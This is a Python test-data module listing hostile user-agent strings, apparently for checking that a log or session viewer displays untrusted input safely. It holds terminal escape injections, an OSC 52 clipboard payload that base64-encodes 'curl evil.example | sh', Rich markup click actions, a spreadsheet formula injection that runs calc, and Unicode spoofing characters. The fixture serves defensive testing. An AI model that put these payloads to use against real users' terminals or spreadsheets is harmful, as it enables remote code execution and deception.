"""User agents that a stranger might send to whoever reads the list."""

STRANGERS_IP = "203.0.113.66"

HOSTILE_AGENTS: tuple[str, ...] = (
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H cleared",
    "\x1b]0;owned title\x07Mozilla/5.0",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07clipboard",
    "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "\x9b31mC1 red\x9b0m \x9d0;C1 title\x9c",
    "\x1bP$q\x1b\\ \x1b[6n \x1b[c asks the terminal",
    "[red]markup[/red] [b]bold",
    "[/] closes what was never opened",
    "[@click=app.quit]quit[/] [@click=\"app.bell('x')\"]bell[/]",
    "[link=https://evil.example]link[/link] \\[escaped]",
    "curl/8.5 \u202egnp.exe\u202c \u2066isolated\u2069 \u200fright",
    "zero\u200bwidth\u200d\u2060\ufeff joined\u00ad soft",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family",
    "\U0001f1ee\U0001f1e9 flag \U0001f44d\U0001f3fd skin tone \u2764\ufe0f presentation",
    "\u6f22\u5b57\u30ab\u30bf\u30ab\u30ca \ud55c\uad6d\uc5b4 wide \uff21\uff22",
    "Z\u0351\u036b\u0343a\u0300\u0301\u0302\u0303l\u0334\u0335\u0336go combining" + "\u0301" * 60,
    "line one\nline two\r\nline three\tand\x0btabs\x0c",
    "back\x08\x08\x08\x08space \x7f del \x00 nul",
    "=cmd()|'/C calc'!A0",
    "+1+1",
    "@SUM(1+1)*cmd",
    "-2+3",
    '"quoted", comma; semi <b>html</b> & {json: "x"} },{ ]}',
    "lone \ud800 high and \udfff low surrogate",
    "",
    "   ",
    "Mozilla/5.0 (X11; Linux x86_64) " + "A" * 100_000,
    "\u2028line separator\u2029 \u0085 next line \U000e0041\U000e0042 tags \ufffe",
)
"""Each appears once among the seeded sessions, as far as there is room."""
